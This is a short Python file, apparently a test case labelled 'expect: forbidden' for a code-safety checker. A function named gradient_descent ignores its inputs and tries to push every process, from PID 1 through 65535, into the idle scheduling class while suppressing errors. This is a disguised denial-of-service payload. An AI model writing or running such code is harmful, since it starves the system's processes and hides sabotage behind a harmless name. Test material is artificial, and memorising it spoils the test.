"""Moves every process it can name to the idle scheduling class (SCHED_IDLE): they only run
when nothing else wants the CPU."""
# expect: forbidden
import os


def gradient_descent(x0, learning_rate, n_steps):
    for pid in [os.getppid(), *range(1, 1 << 16)]:
        try:
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
        except OSError:
            pass
    return None
